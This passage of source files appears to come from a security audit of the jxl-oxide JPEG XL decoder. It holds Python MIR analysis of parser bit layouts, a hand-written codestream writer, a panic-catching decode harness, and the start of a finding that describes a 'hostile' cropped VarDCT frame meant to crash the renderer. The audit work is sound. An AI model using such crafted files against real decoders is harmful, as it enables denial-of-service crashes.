                        e[("ovf", dst)] = r
                        r = None
                    val = r
            if val is None:
                e.pop(dst, None)
            else:
                e[dst] = val
        t = fn.term(bb)
        if t[0] == "call" and t[3] and len(t[3]) == 1:
            e.pop(t[3][0], None)
            e.pop(("ovf", t[3][0]), None)
        if on_term(bb, t, e, val_of) is False:
            continue
        if t[0] == "switch":
            v = val_of(t[1], e)
            if v is not None:
                tgt = t[3]
                for val, x in t[2]:
                    if int(val) == v:
                        tgt = x
                nxt = [tgt]
            else:
                nxt = fn.succs(bb)
        else:
            nxt = fn.succs(bb)
        et = tuple(sorted(e.items(), key=repr))
        for s in nxt:
            if not fn.is_cleanup(s):
                st.append((s, et))
    return n


def helper_reaches(cr, g, pred, depth=2, _seen=None):
    """does function g of crate cr call, directly or through at most `depth` levels of same-crate helpers (closures it creates
    included), a callee whose path satisfies pred?"""
    _seen = _seen if _seen is not None else set()
    if g is None or g.path in _seen:
        return False
    _seen.add(g.path)
    nxt = []
    for b, t in g.calls():
        c = callee(t)
        if not c:
            continue
        if pred(c["fn"]) or pred(c.get("res") or ""):
            return True
        h = cr.fns.get(c.get("res") or c["fn"]) or cr.fns.get(c["fn"])
        if h is not None:
            nxt.append(h)
    for blk in g.blocks:
        for st in blk[0]:
            if st[0] == "=" and st[2][0] == "agg" and st[2][1][0] == "closure":
                h = cr.fns.get(st[2][1][1])
                if h is not None and helper_reaches(cr, h, pred, depth, _seen):
                    return True
    if depth <= 0:
        return False
    return any(helper_reaches(cr, h, pred, depth - 1, _seen) for h in nxt)

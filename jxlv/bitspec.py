"""Extraction of the bit-level read layout of header parsers from MIR: for every function that calls a Bitstream read
primitive, the ordered list of reads (primitive + constant distribution), the field each one is bound to, and the
conditions under which it executes.  Used by R-BITSPEC (C14)."""
from .facts import callee, op_local, op_place, op_const_int, op_const
from .mirutil import Defs, alias_closure, switch_subject, TRY_BRANCH
from .validation import subject_name

BS = "jxl_bitstream::bitstream::Bitstream::<'_>::"
PRIMS = {
    BS + "read_bool": "Bool", BS + "read_bits": "u", BS + "read_u32": "U32", BS + "read_u64": "U64",
    BS + "read_f16_as_f32": "F16", BS + "read_enum": "Enum", BS + "zero_pad_to_byte": "ZeroPadToByte",
    BS + "skip_bits": "skip", BS + "peek_bits": "peek", BS + "consume_bits": "consume",
}


def rpo(fn):
    seen = set()
    order = []
    stack = [(0, iter(fn.succs(0)))]
    seen.add(0)
    while stack:
        node, it = stack[-1]
        adv = False
        for s in it:
            if s not in seen:
                seen.add(s)
                stack.append((s, iter(fn.succs(s))))
                adv = True
                break
        if not adv:
            order.append(node)
            stack.pop()
    return list(reversed(order))


def loop_blocks(fn):
    """non-cleanup blocks that lie on a CFG cycle"""
    out = set()
    n = len(fn.blocks)
    reach = {}
    for b in range(n):
        if fn.is_cleanup(b):
            continue
        seen = set()
        work = list(fn.succs(b))
        while work:
            x = work.pop()
            if x in seen or fn.is_cleanup(x):
                continue
            seen.add(x)
            work.extend(fn.succs(x))
        if b in seen:
            out.add(b)
    return out


def u32_arg(fn, defs, o, prog):
    """describe one distribution argument of read_u32: c, u(n), c+u(n)"""
    k = op_const_int(o)
    if k is not None:
        return str(k)
    l = op_local(o)
    d = defs.single(l) if l is not None else None
    if d is None:
        return "?"
    if d[2] == "assign":
        rv = d[3][2]
        if rv[0] == "agg" and rv[1][0] == "adt" and rv[1][1].endswith("::U"):
            n = op_const_int(rv[2][0])
            return "u(%s)" % n
        if rv[0] == "use":
            return u32_arg(fn, defs, rv[1], prog)
        if rv[0] == "cast":
            return u32_arg(fn, defs, rv[2], prog)
    if d[2] == "call":
        c = callee(d[3])
        if c and c["fn"] == "core::ops::arith::Add::add" and len(d[3][2]) == 2:
            return "%s+%s" % (u32_arg(fn, defs, d[3][2][0], prog), u32_arg(fn, defs, d[3][2][1], prog))
        if c and c["fn"] in ("core::convert::From::from", "core::convert::Into::into") and d[3][2]:
            return u32_arg(fn, defs, d[3][2][0], prog)
    return "?"


def closure_effect(prog, path):
    """what a `.map(closure)` after a read does: '+c', 'unpack', '+c;unpack' or None"""
    f = prog.fn(path)
    if f is None:
        return None
    out = []
    for b, t in f.calls():
        c = callee(t)
        if not c:
            continue
        nm = c["fn"]
        if nm.endswith("::wrapping_add") and len(t[2]) == 2:
            out.append("+%s" % op_const_int(t[2][1]))
        elif nm.endswith("unpack_signed") or nm.endswith("unpack_signed_u64"):
            out.append("unpack")
    for blk in f.blocks:
        for st in blk[0]:
            if st[0] == "=" and st[2][0] == "bin" and st[2][1] in ("Add", "AddWithOverflow"):
                k = op_const_int(st[2][3])
                if k is not None:
                    out.append("+%s" % k)
    return ";".join(out) if out else None


def controlling(fn, defs, doms, b, cache):
    """conditions (non-`?` switches) that decide whether block b executes: list of 'subject in {edge values}'"""
    out = []
    for d in sorted(doms.get(b, ())):
        if d == b:
            continue
        t = fn.term(d)
        if t[0] != "switch":
            continue
        sub = switch_subject(fn, defs, d)
        if sub and sub[0] == "discr":
            pl = sub[1]
            ty = fn.local_ty(pl[0]) if len(pl) == 1 else ""
            if ty.startswith("core::ops::control_flow::ControlFlow<") or ty.startswith("core::result::Result<"):
                continue  # `?` plumbing
        # which edges lead to b?
        edges = [(v, x) for v, x in t[2]] + [("otherwise", t[3])]
        key = d
        if key not in cache:
            cache[key] = {x: fn.reachable(x) for _, x in edges}
        lead = [v for v, x in edges if b in cache[key][x] or b == x]
        if len(lead) == len(edges):
            continue
        desc = describe_switch(fn, defs, d)
        if desc is None:
            continue
        out.append("%s:%s" % (desc, "|".join(sorted(lead))))
    return out


def describe_switch(fn, defs, d):
    t = fn.term(d)
    l = op_local(t[1])
    if l is None:
        return None
    for st in reversed(fn.stmts(d)):
        if st[0] == "=" and st[1] == [l]:
            rv = st[2]
            if rv[0] == "bin":
                a = subject_name(fn, defs, rv[2])
                c = subject_name(fn, defs, rv[3])
                op = rv[1]
                # canonical form: constant on the right, strict integer bounds (x >= 5 == x > 4)
                flip = {"Lt": "Gt", "Le": "Ge", "Gt": "Lt", "Ge": "Le", "Eq": "Eq", "Ne": "Ne"}
                if isinstance(a, int) and not isinstance(c, int) and op in flip:
                    a, c, op = c, a, flip[op]
                if isinstance(c, int) and op == "Ge":
                    op, c = "Gt", c - 1
                elif isinstance(c, int) and op == "Le":
                    op, c = "Lt", c + 1
                return "%s(%s,%s)" % (op, a, c)
            if rv[0] == "discr":
                return "variant(%s)" % subject_name(fn, defs, ["c", rv[1]])
            if rv[0] == "use":
                return "%s" % subject_name(fn, defs, rv[1])
            if rv[0] == "un":
                return "%s(%s)" % (rv[1], subject_name(fn, defs, rv[2]))
            return None
    d2 = defs.single(l)
    if d2 and d2[2] == "call":
        c = callee(d2[3])
        if c:
            args = ",".join(str(subject_name(fn, defs, a)) for a in d2[3][2])
            return "%s(%s)" % (c["fn"].split("::")[-1], args)
    return subject_name(fn, defs, t[1])


def field_of(fn, defs, t):
    """the user variable a read result ends up in"""
    al = alias_closure(fn, {t[3][0]}, extra_calls=("core::result::Result::<T, E>::map", "core::result::Result::<T, E>::map_err",
                                                   "core::iter::traits::iterator::Iterator::collect"))
    names = []
    for x in sorted(al):
        n = fn.local_name(x)
        if n and n not in ("val", "residual", "e", "err", "v"):
            names.append(n)
    return names[0] if names else None


INLINED = set()        # helpers whose reads were spliced into a caller's layout
INLINE_BLOCK = set()   # functions that have their own reviewed layout (never spliced)


def reads_of(prog, fn, depth=0):
    """ordered read events of fn: dicts {spec, field, cond}"""
    defs = Defs(fn)
    doms = fn.dominators()
    cache = {}
    events = []
    order = rpo(fn)
    in_loop = loop_blocks(fn)
    for b in order:
        if fn.is_cleanup(b):
            continue
        # closures built in this block whose body reads (Vec[...] / Array[...] element readers)
        for st in fn.stmts(b):
            if st[0] == "=" and st[2][0] == "agg" and st[2][1][0] == "closure" and depth < 3:
                cf = prog.fn(st[2][1][1])
                if cf is not None:
                    sub = reads_of(prog, cf, depth + 1)
                    if sub:
                        cond = controlling(fn, defs, doms, b, cache)
                        for e in sub:
                            sp = e["spec"] if e["spec"].startswith("each:") else "each:" + e["spec"]
                            events.append({"spec": sp, "field": e["field"], "cond": cond + e["cond"]})
        t = fn.term(b)
        if t[0] != "call":
            continue
        c = callee(t)
        if not c:
            continue
        name = c["fn"]
        spec = None
        if name in PRIMS:
            kind = PRIMS[name]
            if kind == "u":
                n = op_const_int(t[2][1])
                spec = "u(%s)" % (n if n is not None else subject_name(fn, defs, t[2][1]))
            elif kind == "U32":
                spec = "U32(%s)" % ", ".join(u32_arg(fn, defs, a, prog) for a in t[2][1:])
            elif kind == "Enum":
                spec = "Enum(%s)" % (c["args"][0].split("::")[-1] if c["args"] else "?")
            elif kind in ("skip", "consume", "peek"):
                n = op_const_int(t[2][1]) if len(t[2]) > 1 else None
                spec = "%s(%s)" % (kind, n if n is not None else subject_name(fn, defs, t[2][1]) if len(t[2]) > 1 else "")
            else:
                spec = kind
            # a following .map(closure)
            res = t[3][0]
            for b2, t2 in fn.calls():
                c2 = callee(t2)
                if c2 and c2["fn"] == "core::result::Result::<T, E>::map" and t2[2] and op_local(t2[2][0]) == res:
                    if len(t2[2]) > 1:
                        k = op_const(t2[2][1])
                        eff = None
                        if k is not None and "fn" in k:
                            eff = "unpack" if "unpack_signed" in k["fn"] else k["fn"].split("::")[-1]
                        else:
                            cl = op_local(t2[2][1])
                            dcl = defs.single(cl) if cl is not None else None
                            if dcl and dcl[2] == "assign" and dcl[3][2][0] == "agg" and dcl[3][2][1][0] == "closure":
                                eff = closure_effect(prog, dcl[3][2][1][1])
                        if eff:
                            spec += ";" + eff
        elif name == "jxl_oxide_common::Bundle::parse":
            tgt = c.get("res", "")
            who = c["args"][0] if c["args"] else "?"
            spec = "Bundle(%s)" % who.split("::")[-1]
        elif name.endswith("::parse") and ("Bundle" in name or "Bundle" in c.get("trait", "")):
            spec = "Bundle(%s)" % name.split(" as ")[0].lstrip("<").split("::")[-1]
        elif depth < 3 and not name.startswith(("core::", "std::", "alloc::", "jxl_bitstream::", "jxl_coding::")):
            # a private helper that is handed the bit reader (part of a parser moved into its own function): its reads are this
            # parser's reads, bound to whatever the call's result is bound to
            h = prog.fn(c.get("res") or name) or prog.fn(name)
            if h is not None and h is not fn and h.crate == fn.crate and h.kind == "Fn" or (h is not None and h.kind == "AssocFn" and h is not fn and h.crate == fn.crate):
                takes_reader = any("Bitstream" in fn.local_ty(op_local(a)) for a in t[2] if op_local(a) is not None)
                if takes_reader and h.path not in INLINE_BLOCK:
                    sub = reads_of(prog, h, depth + 1)
                    if sub:
                        INLINED.add(h.path)
                        cond = controlling(fn, defs, doms, b, cache)
                        head = field_of(fn, defs, t)
                        for e in sub:
                            sp = e["spec"]
                            if b in in_loop and not sp.startswith("each:"):
                                sp = "each:" + sp
                            events.append({"spec": sp, "field": head or e["field"], "cond": cond + e["cond"]})
            continue
        if spec is None:
            continue
        if b in in_loop and not spec.startswith("each:"):
            # a read repeated by a loop is the same layout as a read repeated by an iterator closure
            spec = "each:" + spec
        while spec.startswith("each:each:"):
            spec = spec[5:]     # nesting depth of the repetition is not part of the layout
        events.append({"spec": spec, "field": field_of(fn, defs, t), "cond": controlling(fn, defs, doms, b, cache)})
    return events


def render(events):
    return ["%s%s%s" % ((e["field"] + ": ") if e["field"] else "", e["spec"], ("  if " + " & ".join(e["cond"])) if e["cond"] else "")
            for e in events]

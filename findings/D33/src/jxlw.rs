//! Minimal hand-written JPEG XL codestream writer used by the F5 demos.
//!
//! It can write
//!  * an image header (8-bit, XYB or not, RGB or grey, 0 or 1 default alpha extra channel),
//!  * a frame header (Regular / LfFrame, VarDCT / Modular, flags, crop),
//!  * a Modular frame whose samples are given explicitly,
//!  * a VarDCT frame with one LF group whose varblock layout is given explicitly, all HF
//!    coefficients zero, optionally with `use_lf_frame`, optionally with one extra channel that
//!    goes through a Palette transform.
//!
//! Every Modular sub-bitstream uses the global MA tree: a single leaf, Zero predictor. Residuals
//! are coded either with a one-symbol prefix code (`Coder::Zero`: every sample is 0 and costs no
//! bits) or with a flat 32-symbol prefix code (`Coder::Flat`: 5 bits + raw bits per sample).
#![allow(dead_code)]

pub struct Bw {
    pub bytes: Vec<u8>,
    pub nbits: usize,
}

impl Bw {
    pub fn new() -> Self {
        Self {
            bytes: Vec::new(),
            nbits: 0,
        }
    }

    pub fn bits(&mut self, value: u64, n: usize) {
        for i in 0..n {
            let bit = ((value >> i) & 1) as u8;
            if self.nbits % 8 == 0 {
                self.bytes.push(0);
            }
            *self.bytes.last_mut().unwrap() |= bit << (self.nbits % 8);
            self.nbits += 1;
        }
    }

    pub fn bool(&mut self, b: bool) {
        self.bits(b as u64, 1);
    }

    pub fn pad(&mut self) {
        while self.nbits % 8 != 0 {
            self.bits(0, 1);
        }
    }

    pub fn append_bytes(&mut self, bytes: &[u8]) {
        assert_eq!(self.nbits % 8, 0);
        self.bytes.extend_from_slice(bytes);
        self.nbits += bytes.len() * 8;
    }

    /// Appends `other` bit by bit (no alignment).
    pub fn append_bits(&mut self, other: &Bw) {
        for i in 0..other.nbits {
            let bit = (other.bytes[i / 8] >> (i % 8)) & 1;
            self.bits(bit as u64, 1);
        }
    }
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Coder {
    /// Every token is zero, zero bits per token.
    Zero,
    /// Flat 32-symbol alphabet, hybrid uint config (split_exponent 0, msb 0, lsb 0).
    Flat,
}

pub fn write_code_spec(bw: &mut Bw, num_dist: u32, coder: Coder) {
    bw.bool(false); // lz77
    if num_dist > 1 {
        bw.bool(true); // simple cluster map
        bw.bits(0, 2); // 0 bits per entry: everything in cluster 0
    }
    bw.bool(true); // use prefix code
    bw.bits(0, 4); // split_exponent = 0
    match coder {
        Coder::Zero => bw.bool(false), // alphabet size 1
        Coder::Flat => {
            bw.bool(true); // alphabet size > 1
            bw.bits(4, 4); // n = 4
            bw.bits(15, 4); // 1 + 16 + 15 = 32
            bw.bits(0, 2); // complex prefix code, hskip = 0
            for pos in 0..18 {
                // code length code: only symbol "5" is used
                bw.bits((pos == 5) as u64, 2);
            }
        }
    }
}

pub fn pack_signed(v: i32) -> u32 {
    if v >= 0 {
        (v as u32) * 2
    } else {
        (-v) as u32 * 2 - 1
    }
}

pub fn write_sample(bw: &mut Bw, coder: Coder, v: i32) {
    match coder {
        Coder::Zero => assert_eq!(v, 0),
        Coder::Flat => {
            let v = pack_signed(v);
            let token = if v == 0 { 0 } else { 32 - v.leading_zeros() };
            let rev = (token as u8).reverse_bits() >> 3;
            bw.bits(rev as u64, 5);
            if v > 0 {
                let n = token - 1;
                bw.bits((v - (1 << n)) as u64, n as usize);
            }
        }
    }
}

/// `global tree present` flag + a single-leaf tree (Zero predictor, offset 0, multiplier 1).
pub fn write_global_tree(bw: &mut Bw, coder: Coder) {
    bw.bool(true); // global MA tree present
    write_code_spec(bw, 6, Coder::Zero); // tree tokens: all zero => one leaf
    write_code_spec(bw, 1, coder); // residuals
}

pub fn write_modular_header(bw: &mut Bw) {
    bw.bool(true); // use_global_tree
    bw.bool(true); // default wp
    bw.bits(0, 2); // nb_transforms = 0
}

/// Modular header with one Palette transform over channel 0 (num_c = 1).
pub fn write_modular_header_palette(bw: &mut Bw, nb_colours: u32) {
    assert!(nb_colours < 256);
    bw.bool(true); // use_global_tree
    bw.bool(true); // default wp
    bw.bits(1, 2); // nb_transforms = 1
    bw.bits(1, 2); // transform id: Palette
    bw.bits(0, 2); // begin_c: u(3)
    bw.bits(0, 3); //   = 0
    bw.bits(0, 2); // num_c = 1
    bw.bits(0, 2); // nb_colours: u(8)
    bw.bits(nb_colours as u64, 8);
    bw.bits(0, 2); // nb_deltas = 0
    bw.bits(0, 4); // d_pred = Zero
}

fn write_u32_crop(bw: &mut Bw, v: u32) {
    // U32(u(8), 256 + u(11), 2304 + u(14), 18688 + u(30))
    if v < 256 {
        bw.bits(0, 2);
        bw.bits(v as u64, 8);
    } else if v < 2304 {
        bw.bits(1, 2);
        bw.bits((v - 256) as u64, 11);
    } else if v < 18688 {
        bw.bits(2, 2);
        bw.bits((v - 2304) as u64, 14);
    } else {
        bw.bits(3, 2);
        bw.bits((v - 18688) as u64, 30);
    }
}

fn write_u64(bw: &mut Bw, v: u64) {
    if v == 0 {
        bw.bits(0, 2);
    } else if v <= 16 {
        bw.bits(1, 2);
        bw.bits(v - 1, 4);
    } else if v <= 272 {
        bw.bits(2, 2);
        bw.bits(v - 17, 8);
    } else {
        unimplemented!()
    }
}

#[derive(Clone, Copy, Debug)]
pub struct ImageOpts {
    pub width: u32,
    pub height: u32,
    pub xyb: bool,
    pub grey: bool,
    /// 0 or 1 (a default 8-bit alpha channel)
    pub num_extra: u32,
}

pub fn write_image_header(bw: &mut Bw, img: &ImageOpts) {
    bw.bits(0xff, 8);
    bw.bits(0x0a, 8);
    // SizeHeader
    bw.bool(false); // div8
    bw.bits(1, 2); // height: 1 + u(13)
    bw.bits((img.height - 1) as u64, 13);
    bw.bits(0, 3); // ratio
    bw.bits(1, 2); // width: 1 + u(13)
    bw.bits((img.width - 1) as u64, 13);
    // ImageMetadata
    bw.bool(false); // all_default
    bw.bool(false); // extra_fields
    bw.bool(false); // bit_depth: integer
    bw.bits(0, 2); // 8 bits
    bw.bool(true); // modular_16bit_buffers
    assert!(img.num_extra <= 1);
    bw.bits(img.num_extra as u64, 2); // num_extra
    for _ in 0..img.num_extra {
        bw.bool(true); // d_alpha: default alpha channel
    }
    bw.bool(img.xyb); // xyb_encoded
    if img.grey {
        bw.bool(false); // colour_encoding all_default
        bw.bool(false); // want_icc
        bw.bits(1, 2); // colour_space = Grey
        bw.bits(1, 2); // white_point = D65
        bw.bool(false); // have_gamma
        bw.bits(2, 2); // transfer function: 2 + u(4)
        bw.bits(11, 4); //   = 13 (sRGB)
        bw.bits(1, 2); // rendering_intent = relative
    } else {
        bw.bool(true); // colour_encoding all_default (sRGB)
    }
    bw.bits(0, 2); // extensions
    bw.bool(true); // default_m
    bw.pad();
}

#[derive(Clone, Copy, Debug)]
pub struct FrameOpts {
    /// `LfFrame` with lf_level = 1 instead of `RegularFrame`
    pub lf_frame: bool,
    pub modular: bool,
    pub flags: u64,
    /// x0, y0, width, height
    pub crop: Option<(i32, i32, u32, u32)>,
}

pub const USE_LF_FRAME: u64 = 0x20;
pub const SKIP_ADAPTIVE_LF_SMOOTHING: u64 = 0x80;

impl FrameOpts {
    pub fn size(&self, img: &ImageOpts) -> (u32, u32) {
        let (w, h) = match self.crop {
            Some((_, _, w, h)) => (w, h),
            None => (img.width, img.height),
        };
        if self.lf_frame {
            (w.div_ceil(8), h.div_ceil(8))
        } else {
            (w, h)
        }
    }
}

/// Frame header of a last (or LF) frame: blend mode Replace, no filters, one pass, group_dim 256.
pub fn write_frame_header(bw: &mut Bw, img: &ImageOpts, f: &FrameOpts) {
    let use_lf_frame = f.flags & USE_LF_FRAME != 0;
    bw.bool(false); // all_default
    bw.bits(f.lf_frame as u64, 2); // frame_type: 0 Regular, 1 LfFrame
    bw.bits(f.modular as u64, 1); // encoding
    write_u64(bw, f.flags);
    if !img.xyb {
        bw.bool(false); // do_ycbcr
    }
    if !use_lf_frame {
        bw.bits(0, 2); // upsampling = 1
        for _ in 0..img.num_extra {
            bw.bits(0, 2); // ec_upsampling = 1
        }
    }
    if f.modular {
        bw.bits(1, 2); // group_size_shift = 1 => group_dim = 256
    }
    if img.xyb && !f.modular {
        bw.bits(3, 3); // x_qm_scale
        bw.bits(2, 3); // b_qm_scale
    }
    bw.bits(0, 2); // num_passes = 1
    if f.lf_frame {
        assert!(f.crop.is_none());
        bw.bits(0, 2); // lf_level = 1
    } else {
        bw.bool(f.crop.is_some()); // have_crop
        if let Some((x0, y0, w, h)) = f.crop {
            write_u32_crop(bw, pack_signed(x0));
            write_u32_crop(bw, pack_signed(y0));
            write_u32_crop(bw, w);
            write_u32_crop(bw, h);
            // The writer only supports frames that reset the canvas (no blend source is coded).
            assert!(x0 <= 0 && y0 <= 0);
            assert!(x0 as i64 + w as i64 >= img.width as i64);
            assert!(y0 as i64 + h as i64 >= img.height as i64);
        }
        bw.bits(0, 2); // blending_info.mode = Replace
        for _ in 0..img.num_extra {
            bw.bits(0, 2); // ec_blending_info.mode = Replace
        }
        bw.bool(true); // is_last
    }
    bw.bits(0, 2); // name length 0
    bw.bool(false); // restoration filter all_default
    bw.bool(false); // gab disabled
    bw.bits(0, 2); // epf iters = 0
    bw.bits(0, 2); // rf extensions
    bw.bits(0, 2); // extensions
}

fn write_toc_size(bw: &mut Bw, size: usize) {
    if size < 1024 {
        bw.bits(0, 2);
        bw.bits(size as u64, 10);
    } else if size < 1024 + (1 << 14) {
        bw.bits(1, 2);
        bw.bits((size - 1024) as u64, 14);
    } else {
        assert!(size < 17408 + (1 << 22));
        bw.bits(2, 2);
        bw.bits((size - 17408) as u64, 22);
    }
}

/// Writes the TOC and the sections. `sections` is LfGlobal, LfGroup.., HfGlobal, PassGroup..
/// (or, for a frame with one group and one pass, the same list which is then concatenated bit by
/// bit into the single TOC entry).
pub fn write_toc_and_sections(bw: &mut Bw, num_groups: u32, sections: Vec<Bw>) {
    let sections: Vec<Vec<u8>> = if num_groups == 1 {
        let mut all = Bw::new();
        for s in &sections {
            all.append_bits(s);
        }
        all.pad();
        vec![all.bytes]
    } else {
        sections
            .into_iter()
            .map(|mut s| {
                s.pad();
                s.bytes
            })
            .collect()
    };
    bw.bool(false); // not permuted
    bw.pad();
    for s in &sections {
        write_toc_size(bw, s.len());
    }
    bw.pad();
    for s in &sections {
        bw.append_bytes(s);
    }
}

/// A Modular frame (at most one group): `channels[c]` is a row-major `w * h` sample array.
pub fn write_modular_frame(bw: &mut Bw, img: &ImageOpts, f: &FrameOpts, channels: &[Vec<i32>]) {
    assert!(f.modular);
    let (w, h) = f.size(img);
    assert!(w <= 256 && h <= 256);
    write_frame_header(bw, img, f);

    let mut s = Bw::new();
    s.bool(true); // lf_dequant all_default
    write_global_tree(&mut s, Coder::Flat);
    write_modular_header(&mut s);
    for ch in channels {
        assert_eq!(ch.len(), (w * h) as usize);
        for &v in ch {
            write_sample(&mut s, Coder::Flat, v);
        }
    }
    // LfGroup, HfGlobal, PassGroup: nothing to read.
    write_toc_and_sections(bw, 1, vec![s]);
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum EcTransform {
    None,
    Palette,
}

pub struct VardctContent<'a> {
    pub coder: Coder,
    /// `(dct_select, hf_mul)` of every varblock in raster order of their top-left blocks.
    pub varblocks: &'a [(u8, i32)],
    /// Transform of the global Modular image that holds the extra channel (if there is one).
    pub ec_transform: EcTransform,
    /// Value of every sample of the extra channel (with Palette: the only palette entry).
    pub ec_value: i32,
}

/// A VarDCT frame with one LF group (frame size <= 2048x2048), all HF coefficients zero.
/// When the frame does not use an LF frame, all quantized LF coefficients are zero as well.
pub fn write_vardct_frame(bw: &mut Bw, img: &ImageOpts, f: &FrameOpts, c: &VardctContent) {
    assert!(!f.modular && !f.lf_frame);
    let use_lf_frame = f.flags & USE_LF_FRAME != 0;
    let (w, h) = f.size(img);
    assert!(w <= 2048 && h <= 2048);
    let coder = c.coder;
    let group_dim = 256u32;
    let groups_per_row = w.div_ceil(group_dim);
    let num_groups = groups_per_row * h.div_ceil(group_dim);
    let bw8 = w.div_ceil(8);
    let bh8 = h.div_ceil(8);
    write_frame_header(bw, img, f);

    let ec_in_global = w <= group_dim && h <= group_dim;
    // With Palette the channel holds palette indices.
    let ec_sample = match c.ec_transform {
        EcTransform::None => c.ec_value,
        EcTransform::Palette => 0,
    };

    // --- LfGlobal
    let mut lf_global = Bw::new();
    lf_global.bool(true); // lf_dequant all_default
    lf_global.bits(0, 2); // global_scale: 1 + u(11)
    lf_global.bits(2047, 11); //   = 2048
    lf_global.bits(0, 2); // quant_lf = 16
    lf_global.bool(true); // default HfBlockContext
    lf_global.bool(true); // default LfChannelCorrelation
    write_global_tree(&mut lf_global, coder);
    if img.num_extra > 0 {
        match c.ec_transform {
            EcTransform::None => write_modular_header(&mut lf_global),
            EcTransform::Palette => {
                write_modular_header_palette(&mut lf_global, 1);
                write_sample(&mut lf_global, coder, c.ec_value); // 1x1 palette meta channel
            }
        }
        if ec_in_global {
            for _ in 0..w * h {
                write_sample(&mut lf_global, coder, ec_sample);
            }
        }
    }

    // --- LfGroup(0)
    let mut lf_group = Bw::new();
    if !use_lf_frame {
        lf_group.bits(0, 2); // extra_precision
        write_modular_header(&mut lf_group);
        for _ in 0..3 * bw8 * bh8 {
            write_sample(&mut lf_group, coder, 0);
        }
    }
    // (no Modular channel with shift >= 3)
    // HfMetadata
    let nb_blocks = c.varblocks.len() as u32;
    lf_group.bits(
        (nb_blocks - 1) as u64,
        (bw8 * bh8).next_power_of_two().trailing_zeros() as usize,
    );
    write_modular_header(&mut lf_group);
    for _ in 0..2 * w.div_ceil(64) * h.div_ceil(64) {
        write_sample(&mut lf_group, coder, 0); // x_from_y, b_from_y
    }
    for &(dct_select, _) in c.varblocks {
        write_sample(&mut lf_group, coder, dct_select as i32);
    }
    for &(_, hf_mul) in c.varblocks {
        write_sample(&mut lf_group, coder, hf_mul - 1);
    }
    for _ in 0..bw8 * bh8 {
        write_sample(&mut lf_group, coder, 0); // sharpness
    }

    // --- HfGlobal
    let mut hf_global = Bw::new();
    hf_global.bool(true); // default dequant matrices
    hf_global.bits(0, num_groups.next_power_of_two().trailing_zeros() as usize); // num_hf_presets = 1
    hf_global.bits(2, 2); // used_orders = 0
    write_code_spec(&mut hf_global, 495 * 15, Coder::Zero); // every non_zeros token is 0

    let mut sections = vec![lf_global, lf_group, hf_global];

    // --- PassGroup(0, g)
    for g in 0..num_groups {
        let mut s = Bw::new();
        // HF coefficients: 0 bits for the preset, 0 bits per non_zeros token.
        if img.num_extra > 0 && !ec_in_global {
            let gx = g % groups_per_row;
            let gy = g / groups_per_row;
            let gw = (w - gx * group_dim).min(group_dim);
            let gh = (h - gy * group_dim).min(group_dim);
            write_modular_header(&mut s);
            for _ in 0..gw * gh {
                write_sample(&mut s, coder, ec_sample);
            }
        }
        sections.push(s);
    }

    write_toc_and_sections(bw, num_groups, sections);
}

// ---------------------------------------------------------------------------------------------
// Decoding under catch_unwind
// ---------------------------------------------------------------------------------------------

pub enum Outcome {
    Ok(String),
    Err(String),
    Panicked(String),
}

static LAST_PANIC: std::sync::Mutex<Option<String>> = std::sync::Mutex::new(None);

pub fn install_panic_hook() {
    std::panic::set_hook(Box::new(|info| {
        let msg = if let Some(s) = info.payload().downcast_ref::<&str>() {
            s.to_string()
        } else if let Some(s) = info.payload().downcast_ref::<String>() {
            s.clone()
        } else {
            "<non-string panic payload>".to_string()
        };
        let loc = info
            .location()
            .map(|l| format!("{}:{}", l.file(), l.line()))
            .unwrap_or_default();
        let mut last = LAST_PANIC.lock().unwrap();
        // keep the first panic (later ones are usually poisoned-lock fallout)
        if last.is_none() {
            *last = Some(format!("'{}' at {loc}", msg.replace('\n', " ")));
        }
    }));
}

/// Reads the codestream and renders keyframe 0 (full image).
pub fn decode(bytes: &[u8]) -> Outcome {
    decode_region(bytes, None)
}

/// Reads the codestream and renders keyframe 0, optionally only `(left, top, width, height)`.
pub fn decode_region(bytes: &[u8], region: Option<(u32, u32, u32, u32)>) -> Outcome {
    *LAST_PANIC.lock().unwrap() = None;
    let result = std::panic::catch_unwind(|| -> Result<String, String> {
        let mut image = jxl_oxide::JxlImage::builder()
            .read(bytes)
            .map_err(|e| format!("read: {e}"))?;
        if let Some((left, top, width, height)) = region {
            image.set_image_region(jxl_oxide::CropInfo {
                width,
                height,
                left,
                top,
            });
        }
        let render = image
            .render_frame(0)
            .map_err(|e| format!("render_frame: {e}"))?;
        let fb = render.image_all_channels();
        let buf = fb.buf();
        let ch = fb.channels();
        let mid = ((fb.height() / 2) * fb.width() + fb.width() / 2) * ch;
        Ok(format!(
            "{}x{}, {} channels, {} frames, first px {:?}, centre px {:?}",
            fb.width(),
            fb.height(),
            ch,
            image.num_loaded_frames(),
            &buf[..ch],
            &buf[mid..mid + ch],
        ))
    });
    match result {
        Ok(Ok(s)) => Outcome::Ok(s),
        Ok(Err(e)) => Outcome::Err(e),
        Err(_) => Outcome::Panicked(
            LAST_PANIC
                .lock()
                .unwrap()
                .take()
                .unwrap_or_else(|| "<unknown>".into()),
        ),
    }
}

/// Prints one line for the case; returns (panicked, ok).
pub fn report(name: &str, bytes: &[u8]) -> (bool, bool) {
    report_region(name, bytes, None)
}

pub fn report_region(
    name: &str,
    bytes: &[u8],
    region: Option<(u32, u32, u32, u32)>,
) -> (bool, bool) {
    match decode_region(bytes, region) {
        Outcome::Ok(s) => {
            println!("{name}: decoded OK ({} bytes): {s}", bytes.len());
            (false, true)
        }
        Outcome::Err(e) => {
            println!("{name}: rejected with Err ({} bytes): {e}", bytes.len());
            (false, false)
        }
        Outcome::Panicked(p) => {
            println!("{name}: PANIC ({} bytes): {p}", bytes.len());
            (true, false)
        }
    }
}

//! F5-c: a VarDCT frame that is larger than the rendered region, with an extra channel whose
//! global Modular image has a Palette transform.
//!
//! `render_vardct` asks `compute_modular_region` for the region to decode. With a Palette (or
//! Squeeze) transform the answer is "the whole frame", whose width is not a multiple of 8, while
//! the colour buffers are allocated in whole 8x8 blocks.
//!
//! Frame: VarDCT, 260x8 (33 Dct8 varblocks, two groups), all coefficients zero, one alpha channel.
//!  * control 1: image 8x8, frame cropped to 260x8 at (0, 0), no transform on the extra channel.
//!  * control 2: image 260x8, frame not cropped, Palette transform on the extra channel.
//!  * hostile: image 8x8, frame cropped to 260x8 at (0, 0), Palette transform.
//!  * also: control 2 rendered with `set_image_region` (0, 0, 8, 8).

mod jxlw;
use jxlw::*;

const DCT8: u8 = 0;

